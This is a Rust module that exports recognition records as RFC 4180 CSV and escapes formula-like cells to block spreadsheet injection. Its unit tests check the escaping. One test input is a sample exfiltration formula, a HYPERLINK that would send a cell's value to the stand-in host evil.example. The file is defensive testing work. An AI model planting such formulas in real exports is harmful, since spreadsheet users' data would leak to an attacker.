//! RFC 4180 CSV: a header row, CRLF line ends, fields quoted when they hold a comma, a
//! quote or a line break; UTF-8, with a byte-order mark on request.
//!
//! No cell can run as a spreadsheet formula (OWASP, "CSV Injection"): a field that
//! begins with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a single
//! quote and written quoted, so a spreadsheet program shows it as text. The JSON and
//! xlsx exports keep such values as they are (an xlsx cell written as a string is never
//! evaluated).

use super::rows::ExportRow;

pub const COLUMNS: [&str; 18] = [
    "recognition_id",
    "programme",
    "list_label",
    "file_number",
    "registration_number",
    "names",
    "origin_office",
    "origin_jurisdiction",
    "partner_office",
    "partner_jurisdiction",
    "status",
    "submitted_on",
    "published_on",
    "decided_on",
    "protected_from",
    "limitations",
    "grounds",
    "phase_out_until",
];

const BOM: &str = "\u{feff}";

pub fn header(bom: bool) -> String {
    let mut out = String::new();
    if bom {
        out.push_str(BOM);
    }
    line(&mut out, COLUMNS.iter().map(|c| c.to_string()));
    out
}

/// Every name as `text [script, lang, kind]`, separated by ` | `.
pub fn names_cell(row: &ExportRow) -> String {
    row.names
        .iter()
        .map(|n| format!("{} [{}, {}, {}]", n.text, n.script, n.lang, n.kind))
        .collect::<Vec<_>>()
        .join(" | ")
}

pub fn row(row: &ExportRow) -> String {
    let date = |d: Option<chrono::NaiveDate>| d.map(|d| d.to_string()).unwrap_or_default();
    let text = |t: &Option<String>| t.clone().unwrap_or_default();
    let mut out = String::new();
    line(
        &mut out,
        [
            row.recognition_id.to_string(),
            row.programme.clone(),
            text(&row.list_label),
            text(&row.file_number),
            text(&row.registration_number),
            names_cell(row),
            row.origin_office.clone(),
            row.origin_jurisdiction.clone(),
            row.partner_office.clone(),
            row.partner_jurisdiction.clone(),
            row.status.clone(),
            date(row.submitted_on),
            date(row.published_on),
            date(row.decided_on),
            date(row.protected_from),
            text(&row.limitations),
            text(&row.grounds),
            date(row.phase_out_until),
        ]
        .into_iter(),
    );
    out
}

fn line(out: &mut String, fields: impl Iterator<Item = String>) {
    let fields: Vec<String> = fields.map(|f| quote(&f)).collect();
    out.push_str(&fields.join(","));
    out.push_str("\r\n");
}

/// The characters a spreadsheet program reads as the start of a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn quote(field: &str) -> String {
    if field.starts_with(FORMULA_STARTS) {
        format!("\"'{}\"", field.replace('"', "\"\""))
    } else if field.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoting_follows_rfc_4180() {
        assert_eq!(quote("plain"), "plain");
        assert_eq!(quote("a,b"), "\"a,b\"");
        assert_eq!(quote("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(quote("two\nlines"), "\"two\nlines\"");
        assert_eq!(quote("龙井茶"), "龙井茶");
    }

    #[test]
    fn a_cell_never_starts_a_formula() {
        assert_eq!(
            quote("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""
        );
        assert_eq!(quote("+1"), "\"'+1\"");
        assert_eq!(quote("-2+3"), "\"'-2+3\"");
        assert_eq!(quote("@SUM(A1)"), "\"'@SUM(A1)\"");
        assert_eq!(quote("\t=1"), "\"'\t=1\"");
        assert_eq!(quote("\r=1"), "\"'\r=1\"");
        // Only the first character counts.
        assert_eq!(quote("a=b"), "a=b");
        assert_eq!(quote("co-exists"), "co-exists");
        assert_eq!(quote(""), "");
    }

    fn sample_row() -> ExportRow {
        let date = |s: &str| Some(s.parse().unwrap());
        ExportRow {
            recognition_id: 42,
            programme: "CN-TH".into(),
            list_label: Some("=HYPERLINK(\"x\")".into()),
            file_number: Some("-1".into()),
            registration_number: None,
            names: vec![
                super::super::rows::ExportName {
                    text: "龙井茶".into(),
                    script: "Hans".into(),
                    lang: "zh".into(),
                    kind: "original".into(),
                },
                super::super::rows::ExportName {
                    text: "Say \"hi\"".into(),
                    script: "Latn".into(),
                    lang: "en".into(),
                    kind: "translation".into(),
                },
            ],
            origin_office: "CNIPA".into(),
            origin_jurisdiction: "CN".into(),
            partner_office: "DIP".into(),
            partner_jurisdiction: "TH".into(),
            status: "protected".into(),
            submitted_on: date("2026-05-10"),
            published_on: None,
            decided_on: date("2026-08-31"),
            protected_from: date("2026-08-31"),
            limitations: Some("two\nlines, \"quoted\"".into()),
            grounds: Some("@SUM(A1)".into()),
            phase_out_until: date("2028-08-31"),
        }
    }

    #[test]
    fn a_row_is_exactly_these_bytes() {
        assert_eq!(
            row(&sample_row()),
            "42,CN-TH,\"'=HYPERLINK(\"\"x\"\")\",\"'-1\",,\
             \"龙井茶 [Hans, zh, original] | Say \"\"hi\"\" [Latn, en, translation]\",\
             CNIPA,CN,DIP,TH,protected,2026-05-10,,2026-08-31,2026-08-31,\
             \"two\nlines, \"\"quoted\"\"\",\"'@SUM(A1)\",2028-08-31\r\n"
        );
        let mut empty = sample_row();
        empty.names.clear();
        empty.list_label = None;
        empty.limitations = Some(String::new());
        assert!(row(&empty).starts_with("42,CN-TH,,\"'-1\",,,CNIPA,"));
    }

    #[test]
    fn header_with_and_without_bom() {
        assert!(header(true).starts_with('\u{feff}'));
        assert!(header(false).starts_with("recognition_id,programme,"));
        assert!(header(false).ends_with("phase_out_until\r\n"));
    }
}
